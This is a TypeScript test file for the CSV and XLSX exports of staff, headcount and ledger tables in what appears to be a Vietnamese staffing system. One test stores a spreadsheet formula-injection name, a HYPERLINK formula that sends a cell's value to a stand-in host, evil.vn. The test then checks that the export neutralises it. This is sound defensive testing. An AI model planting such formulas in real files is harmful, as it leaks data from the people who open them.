import { readSheet } from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readStaffFile } from '../../src/services/staff/read-staff-file.ts';
import { unpackWorkbook } from '../../src/services/staff/unpack-workbook.ts';
import { type Data, startApiServer } from '../support/api-server.ts';
import { HeadcountScene } from '../support/headcount-scene.ts';
import { statementsOf } from '../support/statements-of.ts';
import { onServer } from '../support/test-server.ts';

const server = await startApiServer({ template: 'migrated', today: '2025-12-31' });
const scene = new HeadcountScene(server);
const FORMATS = ['CSV', 'XLSX'] as const;
const YEAR = 'from: "2025-01-01", until: "2026-01-01"';

beforeAll(() => scene.begin());

afterAll(() => server.close());

interface File {
  name: string;
  mediaType: string;
  rows: number;
  content: Buffer;
}

async function exported(args: string, language = 'en'): Promise<File> {
  const { exportTable } = await server.query(
    `{ exportTable(${args}) { name mediaType base64 rows } }`,
    {},
    { headers: { 'accept-language': language } },
  );
  const { base64, ...file } = exportTable;
  return { ...file, content: Buffer.from(base64, 'base64') };
}

/** The lines of a CSV file, without the byte order mark. */
const linesOf = ({ content }: File): string[] =>
  content
    .toString('utf8')
    .replace(/^\uFEFF/, '')
    .trimEnd()
    .split('\r\n');

/** So many people on the payroll of a unit, past the rules, which would look at each. */
const manyPeople = (unit: string, count: number) =>
  onServer(server.databaseUrl, (sql) =>
    sql.begin(async (tx) => {
      const tables = ['staff', 'staff_version', 'payroll'];
      for (const table of tables) await tx`ALTER TABLE ${tx(table)} DISABLE TRIGGER USER`;
      await tx`
        WITH person AS (INSERT INTO staff (code) SELECT 'M' || n FROM generate_series(1, ${count}::int) AS n RETURNING id),
        version AS (INSERT INTO staff_version (staff_id, valid_from, name, category) SELECT id, '2025-01-01', 'An', 'CONTRACT' FROM person)
        INSERT INTO payroll (staff_id, unit_id, valid_from, category)
        SELECT id, (SELECT id FROM unit WHERE code = ${unit}), '2025-01-01', 'CONTRACT' FROM person`;
      for (const table of tables) await tx`ALTER TABLE ${tx(table)} ENABLE TRIGGER USER`;
    }),
  );

describe('exportTable of STAFF', () => {
  it('lists people with where they are counted and work on the day, in Vietnamese order', async () => {
    const { center, a, b, other } = await scene.aCenter();
    await scene.register('E1', a, { name: 'Nguyễn Văn Đạt' });
    await scene.register('E2', b, { name: 'Nguyễn Văn Dũng', category: 'CONTRACT', workplace: a });
    await scene.register('E3', a, { name: 'Ân' });
    await scene.register('E4', other);
    await scene.transfer('E3', b, { on: '2025-05-01' });

    const [spring, year] = [
      await exported(`kind: STAFF, format: CSV, unit: "${center}", asOf: "2025-03-01"`),
      await exported(`kind: STAFF, format: CSV, unit: "${center}"`, 'vi'),
    ];

    const columns = 'Staff code,Full name,Category,Payroll home,Payroll home name,Workplace,Workplace name,Start date';
    expect({ ...spring, content: linesOf(spring) }).toEqual({
      name: `staff-${center}-2025-03-01.csv`,
      mediaType: 'text/csv; charset=utf-8',
      rows: 3,
      content: [
        columns,
        `E3,Ân,PUBLIC_EMPLOYEE,${a},${a},${a},${a},2024-06-01`,
        `E2,Nguyễn Văn Dũng,CONTRACT,${b},${b},${a},${a},2024-06-01`,
        `E1,Nguyễn Văn Đạt,PUBLIC_EMPLOYEE,${a},${a},${a},${a},2024-06-01`,
      ],
    });
    expect(year.name).toBe(`staff-${center}-2025-12-31.csv`);
    expect(linesOf(year).slice(0, 2)).toEqual([
      'Mã cán bộ,Họ và tên,Loại,Đơn vị hưởng lương,Tên đơn vị hưởng lương,Nơi làm việc,Tên nơi làm việc,Từ ngày',
      `E3,Ân,PUBLIC_EMPLOYEE,${b},${b},${b},${b},2025-05-01`,
    ]);
  });

  it.each(FORMATS.flatMap((format) => ['vi', 'en'].map((language) => [format, language] as const)))(
    'is read by the import of staff as the same people: %s in %s',
    async (format, language) => {
      const { center, a, b } = await scene.aCenter();
      const people = [
        { code: `${center}.001`, name: 'Bế Thị Ánh', category: 'CIVIL_SERVANT', payrollHome: a, workplace: a },
        { code: `${center}.002`, name: "D'Arcy, “Lê”; Văn", category: 'CONTRACT', payrollHome: a, workplace: b },
        { code: `${center}.003`, name: 'Vũ Ước', category: 'VOLUNTEER', payrollHome: null, workplace: b },
      ];
      for (const { code, payrollHome, ...person } of people)
        await scene.register(code, payrollHome as string, { ...person, from: '2025-02-01' });

      const file = await exported(`kind: STAFF, format: ${format}, unit: "${center}"`, language);
      const { rows, problems } = await readStaffFile(file.name, file.content);

      expect(problems).toEqual([]);
      expect(rows).toEqual(
        people.map((person, index) => ({ line: index + 2, ...person, from: '2025-02-01', protected: false })),
      );
    },
  );

  it('makes no formula of a name, in either format', async () => {
    const { center, a } = await scene.aCenter();
    const name = '=HYPERLINK("http://evil.vn?"&A1,"Xem")';
    await scene.register('E5', a, { name });

    const [csv, xlsx] = await Promise.all(
      FORMATS.map((format) => exported(`kind: STAFF, format: ${format}, unit: "${center}"`)),
    );

    const [, line] = linesOf(csv as File);
    expect(line).toBe(
      `E5,"'=HYPERLINK(""http://evil.vn?""&A1,""Xem"")",PUBLIC_EMPLOYEE,${a},${a},${a},${a},2024-06-01`,
    );
    const rows = await readSheet((xlsx as File).content);
    expect(rows[1]?.[1]).toBe(name);
    const parts = await unpackWorkbook((xlsx as File).content);
    const sheets = [...parts].filter(([part]) => /worksheets\/[^/]+\.xml$/.test(part));
    expect(sheets).toHaveLength(1);
    for (const [, xml] of sheets) expect(xml.toString()).not.toMatch(/<f[ >/]/);
  });

  it('tells what was believed at an instant', async () => {
    const { center, a, b } = await scene.aCenter();
    await scene.register('E6', a);
    const { staff } = await server.query('{ staff(code: "E6") { payroll { recordedAt } } }');
    await scene.transfer('E6', b, { on: '2025-05-01' });

    const before = await exported(
      `kind: STAFF, format: CSV, unit: "${center}", knownAt: "${staff.payroll[0].recordedAt}"`,
    );

    expect(linesOf(before)[1]).toBe(`E6,An,PUBLIC_EMPLOYEE,${a},${a},${a},${a},2024-06-01`);
  });
});

describe('exportTable of HEADCOUNT', () => {
  const COLUMNS = 'Unit code,Unit name,Category,Ceiling,Minimum,Payroll,Vacancies,Seconded in,Seconded out';

  it('counts each unit with those below it, on a day or at the worst of a period', async () => {
    const { center, a, b, other } = await scene.aCenter();
    await scene.allocate(center, { [center]: 10, [a]: 3 });
    await scene.allocate(center, { [a]: 2 }, { from: '2025-09-01' });
    for (const code of ['E10', 'E11']) await scene.register(code, a);
    await scene.register('E12', b, { category: 'CONTRACT' });
    await scene.transfer('E11', b, { on: '2025-07-01' });
    const agreed = { homeAgreement: '1/CV', hostAgreement: '2/CV', onReturn: 'RETURN' };
    await scene.send('secondStaff', { staff: 'E10', host: other, from: '2025-03-01', until: '2025-06-01', ...agreed });
    await scene.send('secondStaff', { staff: 'E12', host: a, from: '2025-03-01', until: '2025-06-01', ...agreed });

    const [day, period, vi] = [
      await exported(`kind: HEADCOUNT, format: CSV, unit: "${center}", asOf: "2025-12-01"`),
      await exported(`kind: HEADCOUNT, format: CSV, unit: "${center}", ${YEAR}`),
      await exported(`kind: HEADCOUNT, format: CSV, unit: "${a}", ${YEAR}`, 'vi'),
    ];

    expect(day.name).toBe(`headcount-${center}-2025-12-01.csv`);
    expect(linesOf(day)).toEqual([
      COLUMNS,
      `${center},${center},PUBLIC_EMPLOYEE,10,,2,8,0,0`,
      `${center},${center},CONTRACT,,,1,,0,0`,
      `${a},${a},PUBLIC_EMPLOYEE,2,,1,1,0,0`,
      `${b},${b},PUBLIC_EMPLOYEE,,,1,,0,0`,
      `${b},${b},CONTRACT,,,1,,0,0`,
    ]);
    expect(period.name).toBe(`headcount-${center}-2025-01-01-2026-01-01.csv`);
    expect(linesOf(period)).toEqual([
      COLUMNS,
      `${center},${center},PUBLIC_EMPLOYEE,10,,2,8,0,1`,
      `${center},${center},CONTRACT,,,1,,0,0`,
      `${a},${a},PUBLIC_EMPLOYEE,2,,2,1,0,1`,
      `${a},${a},CONTRACT,,,0,,1,0`,
      `${b},${b},PUBLIC_EMPLOYEE,,,1,,0,0`,
      `${b},${b},CONTRACT,,,1,,0,1`,
    ]);
    expect(linesOf(vi)[0]).toBe(
      'Mã đơn vị,Tên đơn vị,Loại,Biên chế được giao,Biên chế tối thiểu,Người hưởng lương,Biên chế còn trống,Biệt phái đến,Biệt phái đi',
    );
  });

  it('says of each unit what capacity says of it', async () => {
    const { center, a, b } = await scene.aCenter();
    await scene.allocate(center, { [center]: 10, [a]: 3, [b]: 4 }, { from: '2025-02-01' });
    for (const [code, from] of [
      ['E20', '2025-01-15'],
      ['E21', '2025-04-01'],
      ['E22', '2025-06-01'],
    ] as const)
      await scene.register(code, a, { from });
    await scene.transfer('E20', b, { on: '2025-05-01' });
    await scene.transfer('E21', center, { on: '2025-08-01' });
    await scene.send('leaveStaff', { staff: 'E22', on: '2025-10-01' });
    await scene.send('reparentUnit', { unit: b, relation: 'ESTABLISHMENT', parent: 'C1', on: '2025-07-01' });

    const file = await exported(`kind: HEADCOUNT, format: XLSX, unit: "${center}", ${YEAR}`);

    const [, ...rows] = await readSheet(file.content);
    expect(rows).toHaveLength(3);
    for (const [unit, , category, ceiling, minimum, payroll, vacancies, secondedIn, secondedOut] of rows) {
      const { capacity } = await server.query(`{ capacity(unit: "${unit}", ${YEAR}) {
        secondedIn secondedOut rows { category ceiling minimum payrollPeak vacancies } } }`);
      expect({
        unit,
        secondedIn,
        secondedOut,
        row: { category, ceiling, minimum, payrollPeak: payroll, vacancies },
      }).toEqual({
        unit,
        secondedIn: capacity.secondedIn,
        secondedOut: capacity.secondedOut,
        row: capacity.rows.find((row: Data) => row.category === category),
      });
    }
  });
});

describe('exportTable of LEDGER', () => {
  it('lists the entries of the ledger', async () => {
    const { center, a, b } = await scene.aCenter();
    await scene.allocate(center, { [center]: 10, [a]: 4 });
    await scene.register('E30', a, { category: 'CONTRACT' });
    await scene.transfer('E30', b, { on: '2025-05-01', category: 'PUBLIC_EMPLOYEE' });
    await scene.send('leaveStaff', { staff: 'E30', on: '2025-08-01' });
    await scene.send('renameUnit', { unit: b, name: 'Mới', on: '2025-06-01' });

    const [csv, vi, xlsx] = [
      await exported(`kind: LEDGER, format: CSV, unit: "${center}", ${YEAR}`),
      await exported(`kind: LEDGER, format: CSV, unit: "${center}", ${YEAR}`, 'vi'),
      await exported(`kind: LEDGER, format: XLSX, unit: "${center}", ${YEAR}`),
    ];

    expect([csv.name, csv.rows]).toEqual([`ledger-${center}-2025-01-01-2026-01-01.csv`, 4]);
    expect(linesOf(csv)).toEqual([
      'Day,Measure,Quantity,Debit unit code,Debit unit name,Debit category,Credit unit code,Credit unit name,Credit category,Staff code,Full name,Reason,Instrument',
      `2025-01-01,POSTS,10,${center},${center},PUBLIC_EMPLOYEE,,,PUBLIC_EMPLOYEE,,,GRANTED,1/QĐ`,
      `2025-01-01,POSTS,4,${a},${a},PUBLIC_EMPLOYEE,${center},${center},PUBLIC_EMPLOYEE,,,GRANTED,1/QĐ`,
      `2025-05-01,PEOPLE,1,${b},${b},PUBLIC_EMPLOYEE,${a},${a},CONTRACT,E30,An,TRANSFERRED,1/QĐ`,
      `2025-08-01,PEOPLE,1,,,PUBLIC_EMPLOYEE,${b},Mới,PUBLIC_EMPLOYEE,E30,An,LEFT,`,
    ]);
    expect(linesOf(vi)[0]).toBe(
      'Ngày,Nội dung,Số lượng,Mã đơn vị đến,Tên đơn vị đến,Loại đến,Mã đơn vị đi,Tên đơn vị đi,Loại đi,Mã cán bộ,Họ và tên,Lý do,Văn bản',
    );
    const rows = await readSheet(xlsx.content);
    expect(rows[1]?.slice(0, 4)).toEqual([new Date('2025-01-01T00:00:00Z'), 'POSTS', 10, center]);
  });
});

describe('exportTable', () => {
  it('reads each kind by one statement', async () => {
    const { center, a } = await scene.aCenter();
    await scene.register('E40', a);
    const kinds = ['kind: STAFF', `kind: HEADCOUNT, ${YEAR}`, `kind: LEDGER, ${YEAR}`];

    const sent = [];
    for (const kind of kinds) {
      const ask = () => exported(`${kind}, format: CSV, unit: "${center}"`);
      sent.push((await statementsOf(server, ask)).statements.length);
    }

    expect(sent).toEqual([1, 1, 1]);
  });

  it('answers under the names the caller chose', async () => {
    const { center } = await scene.aCenter();

    const data = await server.query(
      `{ file: exportTable(kind: STAFF, format: CSV, unit: "${center}", asOf: "2025-01-01") { title: name count: rows __typename } }`,
    );

    expect(data).toEqual({ file: { title: `staff-${center}-2025-01-01.csv`, count: 0, __typename: 'ExportedFile' } });
  });

  it('answers null where there is no such unit', async () => {
    const ask = (kind: string) => `${kind}: exportTable(kind: ${kind}, format: CSV, unit: "NOBODY"`;

    expect(await server.query(`{ ${ask('STAFF')}) { rows } }`)).toEqual({ STAFF: null });
    expect(await server.query(`{ ${ask('HEADCOUNT')}) { rows } }`)).toEqual({ HEADCOUNT: null });
    expect(await server.query(`{ ${ask('LEDGER')}, ${YEAR}) { rows } }`)).toEqual({ LEDGER: null });
  });

  it.each([
    ['kind: STAFF, from: "2025-01-01"', 'from', 'no period: staff is exported as of a day, asOf'],
    ['kind: STAFF, until: "2025-01-01"', 'until', 'no period: staff is exported as of a day, asOf'],
    [`kind: HEADCOUNT, asOf: "2025-01-01", ${YEAR}`, 'asOf', 'either a day or a period'],
    ['kind: HEADCOUNT, from: "2025-01-01"', 'until', 'a day after from'],
    ['kind: HEADCOUNT, until: "2025-01-01"', 'from', 'the first day of a period'],
    ['kind: LEDGER', 'from', 'the first day of a period'],
    ['kind: LEDGER, from: "2025-01-01", until: "2025-01-01"', 'until', 'a day after from'],
    [`kind: LEDGER, asOf: "2025-01-01", ${YEAR}`, 'asOf', 'either a day or a period'],
  ])('refuses %s', async (args, field, expected) => {
    const { data, errors } = await server.ask(`{ exportTable(unit: "C1", format: CSV, ${args}) { rows } }`);

    expect(data).toEqual({ exportTable: null });
    expect(errors?.map(({ extensions }) => extensions)).toEqual([
      { code: 'BAD_USER_INPUT', field, expected, requestId: expect.any(String) },
    ]);
  });

  it('refuses more than 50,000 rows, of which it says so', async () => {
    const { center, a, b } = await scene.aCenter();
    await manyPeople(a, 50_000);
    await scene.register('E50', b);
    const ask = (unit: string) => `{ exportTable(kind: STAFF, format: CSV, unit: "${unit}") { rows } }`;

    const [within, beyond] = [await server.ask(ask(a)), await server.ask(ask(center))];

    expect(within).toEqual({ status: 200, data: { exportTable: { rows: 50_000 } } });
    expect([beyond.data, beyond.errors?.map(({ message, extensions }) => [message, extensions])]).toEqual([
      { exportTable: null },
      [
        [
          'There is too much for one file: expected at most 50,000 rows.',
          {
            code: 'BAD_USER_INPUT',
            field: 'unit',
            expected: 'at most 50,000 rows: a unit further down, or a shorter period',
            requestId: expect.any(String),
          },
        ],
      ],
    ]);
  }, 120_000);

  it('refuses two files in one request', async () => {
    const file = (key: string) => `${key}: exportTable(kind: STAFF, format: CSV, unit: "C1") { rows }`;

    const { errors } = await server.ask(`{ ${file('one')} ${file('other')} }`);

    expect(errors?.map(({ path, extensions }) => [path, extensions?.code])).toEqual([[['other'], 'BAD_USER_INPUT']]);
  });
});
